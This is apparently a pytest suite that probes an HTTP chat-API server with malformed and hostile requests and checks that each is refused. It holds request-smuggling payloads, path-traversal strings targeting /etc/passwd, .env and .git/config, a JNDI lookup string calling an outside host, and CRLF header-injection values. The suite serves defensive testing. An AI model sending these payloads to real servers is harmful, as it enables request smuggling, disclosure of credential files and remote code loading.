"""Requests that are none, or that two servers could read in two ways: refused in JSON, and the connection closed."""

import pytest

from tests.hostile.raw import CHAT, Raw, chat, exchange, get, head, post
from tests.live import Live

HOST = b"Host: localhost\r\n"
JSON = "Content-Type: application/json"
CHUNKED = head("POST", CHAT, JSON, "Transfer-Encoding: chunked")
SMUGGLED = get("/smuggled")

NO_REQUEST = {
    "no HTTP": b"hello world\r\n\r\n",
    "empty request line": b" \r\n\r\n",
    "no target": b"GET HTTP/1.1\r\n" + HOST + b"\r\n",
    "no version": b"GET /healthz\r\n\r\n",
    "method in lower case": b"get /healthz HTTP/1.1\r\n" + HOST + b"\r\n",
    "unknown method": b"STEAL /healthz HTTP/1.1\r\n" + HOST + b"\r\n",
    "NUL in the target": b"GET /health\0z HTTP/1.1\r\n" + HOST + b"\r\n",
    "NUL in a header": get("/healthz", "X-A: b\0c"),
    "NULs": bytes(400),
    "non-ASCII in the target": "GET /healthz/é HTTP/1.1\r\n".encode() + HOST + b"\r\n",
    "non-ASCII in a header's name": "GET /healthz HTTP/1.1\r\nX-é: a\r\n".encode() + HOST + b"\r\n",
    "header without a colon": get("/healthz", "no colon here"),
    "header without a name": get("/healthz", ": empty"),
    "space before the colon": get("/healthz", "X-A : b"),
    "folded header": get("/healthz", "X-A: b\r\n folded"),
    "bare LF in a header": b"GET /healthz HTTP/1.1\r\nHost: localhost\nX-A: b\r\n\r\n",
    "bare LF everywhere": b"GET /healthz HTTP/1.1\nHost: localhost\n\n",
    "bare CR in a header": b"GET /healthz HTTP/1.1\r\nHost: localhost\rX-A: b\r\n\r\n",
    "no Host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "two Hosts": get("/healthz", "Host: other"),
    "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    "TLS hello": bytes.fromhex("16030100c2010000be0303") + bytes(180),
    "SSH": b"SSH-2.0-OpenSSH_9.6\r\n",
    "SMTP": b"EHLO example.com\r\n",
    "negative length": head("POST", CHAT, JSON, "Content-Length: -1"),
    "signed length": head("POST", CHAT, JSON, "Content-Length: +2") + b"{}",
    "length in words": head("POST", CHAT, JSON, "Content-Length: two") + b"{}",
    "length list": head("POST", CHAT, JSON, "Content-Length: 2, 2") + b"{}",
    "length past 64 bits": head("POST", CHAT, JSON, f"Content-Length: {2**64}"),
    "two lengths": head("POST", CHAT, JSON, "Content-Length: 2", "Content-Length: 40") + b"{}" + SMUGGLED,
    "two equal lengths": head("POST", CHAT, JSON, "Content-Length: 2", "Content-Length: 2") + b"{}",
    "length and chunks": head("POST", CHAT, JSON, "Content-Length: 4", "Transfer-Encoding: chunked") + b"0\r\n\r\n",
    "chunks and length": head("POST", CHAT, JSON, "Transfer-Encoding: chunked", "Content-Length: 4") + b"0\r\n\r\n",
    "another transfer encoding": head("POST", CHAT, JSON, "Transfer-Encoding: xchunked") + b"0\r\n\r\n",
    "chunked, then another": head("POST", CHAT, JSON, "Transfer-Encoding: chunked, identity") + b"0\r\n\r\n",
    "chunked in a shape of its own": head("POST", CHAT, JSON, "Transfer-Encoding:\x0bchunked") + b"0\r\n\r\n",
    "chunk size garbage": CHUNKED + b"zz\r\n",
    "chunk size negative": CHUNKED + b"-1\r\n",
    "chunk size past 64 bits": CHUNKED + b"fffffffffffffffff\r\n",
    "chunk size with a prefix": CHUNKED + b"0x2\r\n{}\r\n0\r\n\r\n",
    "chunk longer than said": CHUNKED + b"2\r\n{} more\r\n0\r\n\r\n",
    "chunk without its end": CHUNKED + b"2\r\n{}0\r\n\r\n",
    "chunk ended by LF": CHUNKED + b"2\n{}\n0\n\n",
    "chunk extension without end": CHUNKED + b"2;" + b"a" * 600_000,
    "chunk extensions by the thousand": CHUNKED + b"1;aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n \r\n" * 12_000,
}


@pytest.mark.parametrize("name", NO_REQUEST)
def test_what_is_no_request_is_refused(target: Live, name: str) -> None:
    with Raw(target) as raw:
        raw.send_if_open(NO_REQUEST[name])
        answer = raw.answer()
        assert answer.status in (400, 505), answer
        assert answer.error["code"] in ("invalid_http", "http_version_not_supported")
        assert answer.headers["connection"] == "close"
        assert raw.closed, "a second request was read out of the first"


TOO_MUCH = {
    "a target of 64 KB": (get("/" + "a" * 65536), 414),
    "a query of 64 KB": (get("/healthz?" + "a" * 65536), 414),
    "a target of a megabyte": (get("/" + "a" * 2**20), 414),
    "a header of 64 KB": (get("/healthz", "X-A: " + "a" * 65536), 431),
    "a header of a megabyte": (get("/healthz", "X-A: " + "a" * 2**20), 431),
    "a header without end": (get("/healthz", "X-A: " + "a" * 2**19)[:-4], 431),
    "ten thousand headers": (get("/healthz", *(f"X-{number}: a" for number in range(10_000))), 431),
    "headers of 40 KB in all": (get("/healthz", *(f"X-{number}: {'a' * 400}" for number in range(100))), 431),
}


@pytest.mark.parametrize("name", TOO_MUCH)
def test_a_head_is_bounded(target: Live, name: str) -> None:
    sent, status = TOO_MUCH[name]
    with Raw(target) as raw:
        raw.send_if_open(sent)
        answer = raw.answer()
        assert answer.status == status
        assert answer.error["type"] == "invalid_request_error"
        assert raw.closed


OTHER_FAULTS = {
    "another expectation": (head("POST", CHAT, JSON, "Expect: 200-ok", "Content-Length: 2") + b"{}", 417),
    "CONNECT": (b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n", 405),
    "HTTP/0.9 by name": (b"GET /healthz HTTP/0.9\r\n" + HOST + b"\r\n", 505),
    "HTTP/2 by name": (b"GET /healthz HTTP/2.0\r\n" + HOST + b"\r\n", 505),
    "HTTP/1.2": (b"GET /healthz HTTP/1.2\r\n" + HOST + b"\r\n", 400),
    "a length over the limit": (head("POST", CHAT, JSON, "Content-Length: 999999999999"), 413),
    "a body over the limit": (post(b" " * 300_000), 413),
    "chunks over the limit": (CHUNKED + b"10000\r\n" + b" " * 65536 + b"\r\n" + b"50000\r\n" + b" " * 300_000, 413),
}


@pytest.mark.parametrize("name", OTHER_FAULTS)
def test_other_faults_have_statuses_of_their_own(target: Live, name: str) -> None:
    sent, status = OTHER_FAULTS[name]
    with Raw(target) as raw:
        raw.send_if_open(sent)
        answer = raw.answer()
        assert answer.status == status
        assert answer.error["message"]


def test_a_plain_port_says_so_to_a_client_that_speaks_tls(target: Live) -> None:
    assert "http://" in exchange(target, NO_REQUEST["TLS hello"]).error["message"]


def test_pipelined_requests_are_answered_in_order(target: Live) -> None:
    with Raw(target) as raw:
        raw.send(post(chat(text="first")) + get("/healthz") + post(chat(text="third")))
        answers = [raw.answer() for _ in range(3)]
    assert [answer.status for answer in answers] == [200, 200, 200]
    assert b"first" in answers[0].body
    assert b"third" in answers[2].body


def test_a_good_request_before_a_bad_one_is_answered(target: Live) -> None:
    with Raw(target) as raw:
        raw.send(post(chat(text="good")) + b"BAD\r\n\r\n")
        assert b"good" in raw.answer().body
        assert raw.closed


def test_what_follows_a_body_is_a_request_of_its_own(target: Live) -> None:
    with Raw(target) as raw:
        raw.send(post(chat()) + b"trailing garbage\r\n\r\n")
        assert raw.answer().status == 200
        assert raw.closed


def test_after_connection_close_nothing_more_is_served(target: Live) -> None:
    with Raw(target) as raw:
        raw.send(get("/healthz", "Connection: close") + SMUGGLED)
        assert raw.answer().status == 200
        assert raw.closed


def test_a_body_where_none_is_expected_is_no_second_request(target: Live) -> None:
    with Raw(target) as raw:
        raw.send(get("/healthz", f"Content-Length: {len(SMUGGLED)}") + SMUGGLED)
        assert raw.answer().status == 200
        raw.send(get("/readyz"))
        assert b"ready" in raw.answer().body


def test_trailers_change_nothing(target: Live) -> None:
    body = chat()
    chunk = b"%x\r\n" % len(body) + body + b"\r\n"
    with Raw(target) as raw:
        raw.send(CHUNKED + chunk + b"0\r\nX-Request-Id: trailer\r\n\r\n" + get())
        assert raw.answer().headers["x-request-id"] != "trailer"
        assert raw.answer().status == 200


def test_a_client_that_asks_is_told_to_continue(target: Live) -> None:
    body = chat()
    with Raw(target) as raw:
        raw.send(head("POST", CHAT, JSON, f"Content-Length: {len(body)}", "Expect: 100-continue"))
        assert raw.until(b"\r\n\r\n").startswith(b"HTTP/1.1 100 ")
        assert raw.send(body).answer().status == 200


def test_a_refused_client_is_not_told_to_continue(target: Live) -> None:
    with Raw(target) as raw:
        raw.send(head("POST", CHAT, JSON, "Content-Length: 9999999", "Expect: 100-continue"))
        assert raw.until(b"\r\n").startswith(b"HTTP/1.1 413 ")


UPGRADES = {
    "h2c": ("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"),
    "websocket": ("Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
    "something": ("Upgrade: something/7",),
}


@pytest.mark.parametrize("name", UPGRADES)
def test_an_upgrade_nobody_speaks_is_passed_over(target: Live, name: str) -> None:
    """Java's client asks for h2c with every first request; its body must be read all the same."""
    asked = ("Connection: Upgrade, HTTP2-Settings", *UPGRADES[name])
    with Raw(target) as raw:
        assert b"one two" in raw.send(post(chat(), *asked)).answer().body
        first, second = post(chat(text="in two parts"), *asked).split(b"\r\n\r\n")
        raw.send(first + b"\r\n\r\n")
        assert b"in two parts" in raw.send(second).answer().body
        assert raw.send(get("/healthz", *asked)).answer().status == 200


@pytest.mark.parametrize("method", ["TRACE", "PROPFIND", "MKCOL", "PURGE", "DELETE", "PUT", "PATCH"])
@pytest.mark.parametrize("path", ["/healthz", CHAT])
def test_methods_that_a_route_does_not_take(target: Live, method: str, path: str) -> None:
    answer = exchange(target, head(method, path))
    assert answer.status == 405
    assert answer.error["code"] == "method_not_allowed"
    assert ("POST" if path == CHAT else "GET") in answer.headers["allow"]


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_a_method_cannot_be_overridden(target: Live, name: str) -> None:
    assert exchange(target, get(CHAT, f"{name}: POST")).status == 405


@pytest.mark.parametrize("path", ["/", "/healthz", "/readyz", "/health", "/v1/models", "/v1/models/echo", "/metrics"])
def test_head_is_get_without_a_body(target: Live, path: str) -> None:
    with Raw(target) as raw:
        answer = raw.send(head("HEAD", path)).answer(head_only=True)
        assert answer.status == 200
        assert int(answer.headers["content-length"]) > 0
        assert raw.send(get()).answer().body == b'{"status":"ok"}'


@pytest.mark.parametrize("path", ["/", "/healthz", "/v1/models", CHAT, "/v1/embeddings"])
def test_options_tells_the_methods(target: Live, path: str) -> None:
    answer = exchange(target, head("OPTIONS", path))
    assert answer.status in (200, 204)
    assert "OPTIONS" in answer.headers["allow"]


TRAVERSALS = [
    *("/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/%252e%252e/etc/passwd", "/..%2f..%2fetc%2fpasswd"),
    *(
        "/..\\..\\etc\\passwd",
        "/..%5c..%5cetc%5cpasswd",
        "//etc/passwd",
        "/v1/models/../../etc/passwd",
        "/%00/etc/passwd",
    ),
    *(
        "/v1/models/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/v1/../../etc/passwd;x",
        "http://localhost/../etc/passwd",
        "/%ff%fe",
    ),
    *("/.env", "/.git/config", "/v1/files/../../etc/passwd", "/docs/../../etc/passwd"),
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_path_leads_to_a_file(target: Live, path: str) -> None:
    answer = exchange(target, get(path))
    assert answer.status in (400, 404)
    assert "root:" not in answer.error["message"]


def test_an_absolute_target_is_a_path_of_this_server(target: Live) -> None:
    assert exchange(target, get("http://localhost/healthz")).status == 200


@pytest.mark.parametrize(
    "given",
    ["a\tb", "a b", "é", "a" * 500, "${jndi:ldap://example.com/a}", "<script>", "%0d%0aSet-Cookie: a=b", ""],
)
def test_what_is_no_request_id_is_not_repeated(target: Live, given: str) -> None:
    answer = exchange(target, get("/healthz", f"X-Request-Id: {given}"))
    assert answer.headers["x-request-id"].startswith("req_")
    assert "set-cookie" not in answer.headers
